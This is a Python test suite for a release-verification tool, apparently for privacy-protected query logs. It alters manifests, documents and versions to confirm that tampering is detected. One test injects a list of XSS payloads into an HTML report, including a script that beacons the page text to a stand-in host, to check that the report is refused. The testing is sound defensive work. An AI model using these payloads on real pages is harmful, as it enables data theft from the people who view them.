"""Sentences and documents of a release are what its parameters and tables give, and nothing else gets through.

Leaves of every manifest are changed, one at a time, with documents and digests that fit. What passes all the same is
what `release verify` says at its end that it cannot check.
"""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable, Collection
from pathlib import Path
from typing import Any

import pytest

import queryveil as qv
from queryveil.files import folder
from tests import mutations, sizes
from tests.command import command
from tests.conftest import many
from tests.drafts import Draft
from tests.mutations import METHODS, changed, copied, leaves, manifest_of, write_again


@pytest.fixture(scope="module")
def releases(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    return mutations.published(tmp_path_factory.mktemp("releases"))


def failed(release: Path, **given: Any) -> dict[str, str]:
    return {check.name: check.detail for check in qv.verify(release, **given).failed}


@pytest.mark.parametrize("method", METHODS)
def test_untouched_releases_pass(method: str, releases: dict[str, Path]) -> None:
    assert failed(releases[method]) == {}


# -- every leaf ----------------------------------------------------------------------------------------------


Leaf = tuple[str | int, ...]


def survivors(
    release: Path,
    content: dict[str, Any],
    to: Path,
    but: Collection[Leaf] = frozenset(),
    every: int = 1,
    first: int = 0,
) -> set[Leaf]:
    """The leaves that can be changed so that a release passes all the same; of those tried, one in `every`."""
    survived = set()
    for number, at in enumerate(leaves(content), first):
        if at in but or (number % every and at not in FREE):
            continue
        if at[0] == "files" and not str(at[1]).endswith(".parquet"):
            continue  # digests of the documents, which are made to fit
        changed_one = copied(release, to)
        try:
            write_again(changed_one, changed(content, at), with_documents=True)
        except (TypeError, ValueError, KeyError, AttributeError, qv.QueryveilError):
            write_again(changed_one, changed(content, at), with_documents=False)
        if qv.verify(changed_one).passes:
            survived.add(at)
    return survived


# One method after another, `make evidence` changes every leaf; here it is every leaf of two methods, and of
# the others one in five, not the same ones for each, the two that survive among them.
EVERY_LEAF = {"zealous", "k-query"}
FREE = {("created",)}


@pytest.mark.parametrize("method", METHODS)
def test_every_leaf_of_a_manifest_is_computed_or_said_not_to_be(
    method: str, releases: dict[str, Path], tmp_path: Path
) -> None:
    content = manifest_of(releases[method])
    every = 1 if method in EVERY_LEAF or sizes.FULL else 5
    number = list(METHODS).index(method)
    survived = survivors(releases[method], content, tmp_path / "changed", every=every, first=number)
    assert survived == FREE


@pytest.fixture(scope="module")
def variants(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    return mutations.published(tmp_path_factory.mktemp("variants"), mutations.VARIANTS)


@pytest.mark.parametrize("name", mutations.VARIANTS)
def test_no_parameter_can_be_changed_alone(name: str, variants: dict[str, Path], tmp_path: Path) -> None:
    content = manifest_of(variants[name])
    assert failed(variants[name]) == {}
    others = {at for at in leaves(content) if at[0] != "parameters"}
    assert survivors(variants[name], content, tmp_path / "changed", but=others) == set()


@pytest.mark.parametrize("method", METHODS)
def test_what_is_not_checked_is_printed(method: str, releases: dict[str, Path]) -> None:
    done = command("release", "verify", str(releases[method]))
    assert done.code == 0
    noisy = manifest_of(releases[method])["guarantee"]["kind"].endswith("-dp")
    document = command("release", "verify", str(releases[method]), "--json").document
    assert document["not_checked"] == list(qv.verify(releases[method]).not_checked)
    names = [line.partition(":")[0] for line in document["not_checked"]]
    assert {"publisher", "created", "parameters", "tables"} <= set(names)
    assert ("noise" in names) == noisy
    assert all(f"unchecked {name}:" in done.out for name in names)


def test_a_leaf_changed_alone_fails_too(releases: dict[str, Path], tmp_path: Path) -> None:
    """Without documents that fit, so that the day fails too."""
    content = manifest_of(releases["zealous"])
    for at in leaves(content):
        release = copied(releases["zealous"], tmp_path / "changed")
        write_again(release, changed(content, at), with_documents=False)
        assert not qv.verify(release).passes, at


# -- words, forms and documents ------------------------------------------------------------------------------


def calibrated(figure: str, value: object) -> Callable[[dict[str, Any]], object]:
    return lambda content: content["calibration"].update({figure: value})


def edit(release: Path, change: Callable[[dict[str, Any]], object]) -> Path:
    content = manifest_of(release)
    change(content)
    write_again(release, content, with_documents=True)
    return release


@pytest.mark.parametrize(
    "change",
    {
        "a query in how": lambda content: content.update(how="my neighbour's illness"),
        "a path in how": lambda content: content.update(how="From /srv/anna/log.tsv."),
        "a field more": lambda content: content["what"]["fields"].update(x="my neighbour's illness"),
        "another sentence": lambda content: content.update(what={"id": "ad-hoc.what"}),
        "what": lambda content: content.update(what="Harmless counts"),
        "rows under a signature": lambda content: content.update(signature=["u17\tillness"]),
        "a caveat less": lambda content: content["guarantee"]["caveats"].pop(),
        "another assumption": lambda content: content["guarantee"]["assumptions"].append(
            {"code": "x", "sentence": "x"}
        ),
        "an assessment": lambda content: content.update(
            assessment=[{"code": "singling-out", "sentence": "x", "fields": {"verdict": "no"}}]
        ),
        "help of a column": lambda content: content["tables"]["items"]["columns"][0].update(help="u17"),
        "another order of keys": lambda content: content.update(method=content.pop("method")),
        "a number as text": lambda content: content["parameters"].update(epsilon="2.0"),
        "a whole number for a fraction": lambda content: content["parameters"].update(epsilon=2),
        "true for one": lambda content: content["parameters"].update(max_items=True),
    }.items(),
    ids=lambda case: case[0],
)
def test_words_that_are_not_the_methods_own_are_found(
    change: tuple[str, Callable[[dict[str, Any]], object]], releases: dict[str, Path], tmp_path: Path
) -> None:
    release = copied(releases["zealous"], tmp_path / "changed")
    assert "manifest" in failed(edit(release, change[1]))


def test_a_manifest_has_one_form(releases: dict[str, Path], tmp_path: Path) -> None:
    """White space, escapes and spellings of numbers are places to tell more."""
    text = (releases["zealous"] / "manifest.json").read_text(encoding="utf-8")
    forms = {
        "blanks": text + " \t \t\t ",
        "one line": json.dumps(json.loads(text)),
        "escapes": text.replace('"method"', '"\\u006dethod"'),
        "digits": text.replace('"epsilon": 2.0', '"epsilon": 2.00000'),
        "line ends": text.replace("\n", "\r\n"),
    }
    for name, form in forms.items():
        assert form != text
        release = copied(releases["zealous"], tmp_path / "changed")
        (release / "manifest.json").write_bytes(form.encode())
        assert set(failed(release)) == {"manifest"}, name


def replaced(release: Path, name: str, change: Callable[[str], str]) -> Path:
    """Another document, with its digest in the manifest, and where later documents name it, there too."""
    content = manifest_of(release)
    text = (release / name).read_text(encoding="utf-8")
    other = change(text)
    assert other != text
    (release / name).write_text(other, encoding="utf-8")
    entry = {"sha256": hashlib.sha256(other.encode()).hexdigest(), "bytes": len(other.encode())}
    content["files"][name] = entry
    (release / "manifest.json").write_text(folder.as_json(content), encoding="utf-8")
    return release


OTHER_WORDS: dict[str, Callable[[str], str]] = {
    "another epsilon": lambda text: text.replace("epsilon 2,", "epsilon 0.1,"),
    "raw rows": lambda text: text + "\nu17\tmy neighbour's illness\n",
    "a blank": lambda text: text + " ",
}


@pytest.mark.parametrize("name", ["DATASHEET.md", "report.html", "croissant.json"])
@pytest.mark.parametrize("words", OTHER_WORDS)
def test_documents_say_what_the_manifest_says(
    name: str, words: str, releases: dict[str, Path], tmp_path: Path
) -> None:
    release = replaced(copied(releases["zealous"], tmp_path / "changed"), name, OTHER_WORDS[words])
    found = failed(release)
    assert name in found["documents"]
    assert command("release", "verify", str(release)).code == 1


SCRIPTS = {
    "script": "<script>navigator.sendBeacon('https://x.example', document.body.innerText)</script>",
    "data script": "<script type='application/json'>{}</script>",
    "event": "<img src='data:image/png;base64,AA==' onerror='alert(1)'>",
    "upper case": "<p ONCLICK=alert(1)>x</p>",
    "javascript url": "<a href='javascript:alert(1)'>x</a>",
    "data url": "<a href='data:text/html,x'>x</a>",
    "frame": "<iframe srcdoc='x'></iframe>",
    "object": "<object data='data:text/html,x'></object>",
    "form": "<form><input name=x></form>",
    "base": "<base href='https://x.example/'>",
    "link": "<link rel=stylesheet href='https://x.example/x.css'>",
    "foreign markup in a drawing": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></animate></svg>",
    "foreign object": "<svg><foreignObject><p>x</p></foreignObject></svg>",
    "comment": "<!-- u17 my neighbour's illness -->",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "closed at once": "<!--><img src=x onerror=alert(1)>-->",
    "escaped style": "<p style='background: \\75rl(//x.example)'>x</p>",
    "filter": "<svg><rect fill='url(https://x.example/#a)'/></svg>",
    "slashes": "<img/src=x/onerror=alert(1)>",
    "template": "<template><p>x</p></template>",
    "refresh": "<meta http-equiv=refresh content='0; url=https://x.example'>",
    "unfinished": "<img src=x onerror=alert(1) <p>",
}


@pytest.mark.parametrize("way", SCRIPTS)
@pytest.mark.parametrize("version", ["here", "0.1.0"])
def test_a_page_that_does_more_than_show_is_refused(
    way: str, version: str, releases: dict[str, Path], tmp_path: Path
) -> None:
    """Of every version: the page of an older one cannot be written again, and is looked at all the same."""
    release = replaced(
        copied(releases["zealous"], tmp_path / "changed"),
        "report.html",
        lambda text: text.replace("<main>", f"<main>{SCRIPTS[way]}", 1).replace(
            "<body>", f"<body>{SCRIPTS[way]}"
        ),
    )
    if version != "here":
        relabelled(release, version)
    assert "report-offline" in failed(release)


# -- versions ------------------------------------------------------------------------------------------------


def relabelled(release: Path, version: Any) -> Path:
    content = manifest_of(release)
    content["software"]["version"] = version
    (release / "manifest.json").write_text(folder.as_json(content), encoding="utf-8")
    return release


@pytest.mark.parametrize("version", ["0.1.0", "99.0.0", "1.0.0rc1"])
def test_a_release_of_another_version_is_verified_by_its_templates(
    version: str, releases: dict[str, Path], tmp_path: Path
) -> None:
    draft = Draft(releases["zealous"])
    draft.manifest["software"]["version"] = version
    assert qv.verify(draft.write(tmp_path / "other")).passes
    draft.manifest["parameters"]["max_items"] += 1
    found = failed(draft.write(tmp_path / "changed"))
    assert "manifest" in found and f"queryveil {version}" in found["manifest"]


@pytest.mark.parametrize(
    "documents", [{"version": 99}, {"version": True}, {"language": "xx"}, {"language": "../v1/en"}, {"x": 1}]
)
def test_a_version_of_documents_that_is_unknown_is_found(
    documents: dict[str, Any], releases: dict[str, Path], tmp_path: Path
) -> None:
    release = copied(releases["zealous"], tmp_path / "changed")
    content = manifest_of(release)
    content["documents"] |= documents
    (release / "manifest.json").write_text(folder.as_json(content), encoding="utf-8")
    assert "document-version" in failed(release)
    assert command("release", "verify", str(release)).code == 1


@pytest.mark.parametrize("version", ["1", "", "0.1.0 ", "u17", 0.1, None, ["0.1.0"], "\u0661.\u0662.\u0663"])
def test_a_version_must_be_a_version(version: Any, releases: dict[str, Path], tmp_path: Path) -> None:
    release = relabelled(copied(releases["zealous"], tmp_path / "changed"), version)
    assert "software" in failed(release)


@pytest.mark.parametrize("name", ["DATASHEET.md", "report.html", "croissant.json"])
@pytest.mark.parametrize("words", OTHER_WORDS)
@pytest.mark.parametrize("software", [{"version": "0.2.0"}, {"words": "0123456789abcdef"}])
def test_no_statement_about_the_software_hides_a_changed_document(
    software: dict[str, str], words: str, name: str, releases: dict[str, Path], tmp_path: Path
) -> None:
    """Another version, or a digest of sentences as earlier manifests had one, used to switch the comparison off."""
    release = replaced(copied(releases["zealous"], tmp_path / "changed"), name, OTHER_WORDS[words])
    content = manifest_of(release)
    content["software"] |= software
    (release / "manifest.json").write_text(folder.as_json(content), encoding="utf-8")
    assert not qv.verify(release).passes


# -- taxonomies ----------------------------------------------------------------------------------------------


def test_another_sensitivity_or_number_of_concepts_than_wordnets_is_found(
    releases: dict[str, Path], tmp_path: Path
) -> None:
    for figure, value in (
        ("concepts", 12),
        ("max_sim", 0.9),
        ("min_sim", 0.2),
        ("sensitivity", 0.5),
        ("drawn_true", 0.00003),
        ("drawn_within_1_step", 0.9),
        ("drawn_within_2_steps", 0.9),
    ):
        release = copied(releases["semantic"], tmp_path / "changed")
        found = failed(edit(release, calibrated(figure, value)))
        assert f"calibration.{figure}" in found["manifest"]


TREE = "measles\tdisease\nfever\tdisease\ndisease\tthing\ntennis\tsport\nboxing\tsport\nsport\tthing\n"


def own_taxonomy(place: Path) -> tuple[Path, dict[str, Path]]:
    file = place / "tree.tsv"
    file.write_text(TREE)
    log = qv.read(many(20, ["tennis", "measles fever", "boxing"]))
    methods: dict[str, qv.Mechanism] = {
        "clump": qv.Clump(k=2, taxonomy=str(file)),
        "partition": qv.Partition(k=2, taxonomy=str(file)),
        "semantic": qv.Semantic(epsilon=2, taxonomy=str(file)),
        "domain": qv.Semantic(epsilon=2, taxonomy=str(file), domain="disease", max_phrases=1),
        "topics": qv.Semantic(epsilon=2, taxonomy=str(file), domain="per-topic", topics=("disease", "sport")),
        "same topic": qv.Semantic(
            epsilon=2, taxonomy=str(file), criterion="sqc2", topics=("disease", "sport")
        ),
        "histogram": qv.ProfileHistogram(epsilon=2, max_queries=2, taxonomy=str(file)),
    }
    made = {}
    for name, method in methods.items():
        made[name] = place / name.replace(" ", "-")
        qv.publish(log, method, out=made[name])
    return file, made


def test_a_taxonomy_that_is_not_here_is_on_the_list_or_given(tmp_path: Path) -> None:
    file, made = own_taxonomy(tmp_path)
    other = tmp_path / "other.tsv"
    other.write_text(TREE + "golf\tsport\n")
    for name, release in made.items():
        found = qv.verify(release)
        assert found.passes, (name, found.failed)
        assert any(line.startswith("taxonomy:") for line in found.not_checked), name
        given = qv.verify(release, taxonomy=file)
        assert given.passes, (name, given.failed)
        assert not any(line.startswith("taxonomy:") for line in given.not_checked), name
        assert "taxonomy" in failed(release, taxonomy=other), name
    edit(made["semantic"], lambda content: content["calibration"].update(concepts=5))
    assert qv.verify(made["semantic"]).passes
    done = command("release", "verify", str(made["semantic"]), "--taxonomy", str(file))
    assert done.code == 1 and "calibration.concepts" in done.out
    edit(made["clump"], lambda content: content.update(how="measles"))
    assert "manifest" in failed(made["clump"])


def test_shares_that_epsilon_cannot_give_are_found_without_the_taxonomy(tmp_path: Path) -> None:
    """Of two concepts at epsilon 2 the true one is drawn in half of the draws at least, and in 88 % at most."""
    file = tmp_path / "tree.tsv"
    file.write_text("tennis\tsport\n")
    log = qv.read(many(20, ["tennis"]))
    qv.publish(log, qv.Semantic(epsilon=2, max_phrases=1, taxonomy=str(file)), out=tmp_path / "made")
    for figure, value, right in (
        ("drawn_true", 0.8, True),
        ("drawn_true", 0.4, False),
        ("drawn_true", 0.9, False),
        ("drawn_within_1_step", 0.2, False),
        ("drawn_within_2_steps", 1.5, False),
    ):
        release = copied(tmp_path / "made", tmp_path / "changed")
        edit(release, calibrated(figure, value))
        assert ("calibration" not in failed(release)) == right, (figure, value)


def test_a_taxonomy_for_a_method_that_uses_none_is_no_fault_of_the_release(
    releases: dict[str, Path], tmp_path: Path
) -> None:
    (tmp_path / "tree.tsv").write_text(TREE)
    done = command("release", "verify", str(releases["zealous"]), "--taxonomy", str(tmp_path / "tree.tsv"))
    assert done.code == 2
    assert "made by zealous, which uses no taxonomy" in done.err
    # Where one is used, a file that was not is a false claim about the release.
    assert "taxonomy" in failed(releases["semantic"], taxonomy=tmp_path / "tree.tsv")
